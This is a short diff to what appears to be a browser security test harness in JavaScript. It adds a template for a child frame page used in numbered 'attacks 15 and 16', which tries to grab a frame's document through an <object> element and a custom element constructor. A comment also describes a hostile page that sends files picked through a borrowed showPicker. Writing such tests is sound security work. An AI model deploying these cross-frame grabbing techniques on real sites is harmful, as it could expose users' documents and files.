@@ -83,6 +83,26 @@ export const objectGrabScript = (connectMore = '') => `
   }`;
 
 /**
+ * The end of a child frame's page for attacks 15 and 16: its `lookupGrab`
+ * (object #o looked up, and its first document handed to the tab's page
+ * `tab` with `label`), x-grab defined with `define` (the start of a call,
+ * up to the name), and then an <object> (attributes `object`) whose last
+ * node is an inline script's text, closed, and x-grab, whose constructor
+ * looks #o up.
+ */
+export const childObjectScript = (tab, label, define, object) => `
+    function lookupGrab(what) {
+      const o = document.getElementById('o');
+      const had = window.length;
+      o.anything;
+      note(what + ': frames before ' + had + ', after a lookup ' + window.length);
+      for (let i = 0; i < window.length; i++) { try { if (window[i].frameElement === o) { ${tab}.grab(window[i], '${label} ' + what); return; } } catch {} }
+      ${tab}.how = 'no frame in the child at ' + what;
+    }
+    ${define}'x-grab', class extends HTMLElement { constructor() { super(); if (!window.ceSeen) { window.ceSeen = 1; lookupGrab('x-grab'); } } });
+  </script><object id="o" ${object} onerror="note('object error')">x<script>note('inside: frames ' + window.length)</script></object><x-grab></x-grab>`;
+
+/**
  * A hostile page's script: on a click of #open, a file input never put in
  * any document is opened with `window.grabbedPicker` (a first document's
  * showPicker the page took), and what it gets is sent.
